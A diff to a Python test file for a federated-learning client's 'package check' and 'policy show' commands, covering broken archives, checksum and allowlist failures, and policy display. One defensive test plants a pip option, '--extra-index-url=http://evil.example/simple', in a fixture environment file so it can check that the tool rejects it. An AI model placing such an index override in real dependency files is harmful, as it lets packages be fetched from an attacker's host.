@@ -98,10 +98,62 @@ def test_package_build_then_check(tmp_path: Path, digits: Path) -> None:
     assert any(line.startswith("train") for line in checked.stdout.splitlines())
 
 
-def test_package_check_of_a_broken_archive_is_one_line(tmp_path: Path) -> None:
+def test_package_check_of_a_broken_archive_names_the_problem(tmp_path: Path) -> None:
     bad = tmp_path / "bad.tgz"
     bad.write_bytes(b"not an archive")
     result = run_cli("package", "check", str(bad), cwd=tmp_path)
     assert result.returncode == 1
-    [line] = result.stderr.strip().splitlines()
-    assert line.startswith("fedclient: error: cannot unpack compute package 'bad.tgz'")
+    assert result.stderr == ""
+    problems = [line for line in result.stdout.splitlines() if line.startswith("problem: ")]
+    assert problems == [
+        "problem: compute package 'bad.tgz' is not a tar or zip archive: it starts with b'not an archive'"
+    ]
+
+
+def test_package_check_applies_the_site_policy_and_names_each_problem(tmp_path: Path, digits: Path) -> None:
+    result = run_cli(
+        "package",
+        "check",
+        str(digits),
+        "--allow-package",
+        "0" * 64,
+        "--package-checksum",
+        "1" * 64,
+        cwd=tmp_path,
+    )
+    assert result.returncode == 1, result.stderr
+    problems = [line for line in result.stdout.splitlines() if line.startswith("problem: ")]
+    assert len(problems) == 2
+    assert "expected 1111111111111111111111111111111111111111111111111111111111111111" in problems[0]
+    assert "not in the allowlist of 1 package(s)" in problems[1]
+    assert result.stdout.rstrip().endswith("2 problem(s) found")
+
+
+def test_policy_show_prints_the_policy_file_and_flags(tmp_path: Path) -> None:
+    policy = tmp_path / "site.yaml"
+    policy.write_text("limits:\n  memory: 2GiB\n  output: 10MiB\nread_only_package: true\n")
+    result = run_cli(
+        "policy", "show", "--policy-file", str(policy), "--limit-cpu-seconds", "30", cwd=tmp_path
+    )
+    assert result.returncode == 0, result.stderr
+    out = result.stdout
+    assert f"site policy from {policy} + flags --limit-cpu-seconds" in out
+    assert "memory:      2 GiB" in out and "output:      10 MiB" in out and "cpu time:    30 s" in out
+    assert "read-only package directory: yes" in out
+    bad = run_cli("policy", "show", "--policy-file", str(tmp_path / "missing.yaml"), cwd=tmp_path)
+    assert bad.returncode == 2 and bad.stderr.startswith("fedclient: error: policy file not found")
+
+
+def test_package_check_refuses_a_python_env_that_changes_where_pip_installs_from(tmp_path: Path) -> None:
+    pkg = tmp_path / "pkg"
+    pkg.mkdir()
+    (pkg / "fedn.yaml").write_text(
+        "python_env: env.yaml\nentry_points:\n  train:\n    command: python t.py\n"
+    )
+    (pkg / "env.yaml").write_text(
+        "dependencies:\n  - numpy\n  - --extra-index-url=http://evil.example/simple\n"
+    )
+    result = run_cli("package", "check", str(pkg), cwd=tmp_path)
+    assert result.returncode == 1, result.stderr
+    [problem] = [line for line in result.stdout.splitlines() if line.startswith("problem: ")]
+    assert "'--extra-index-url=http://evil.example/simple' is a pip option, not a requirement" in problem
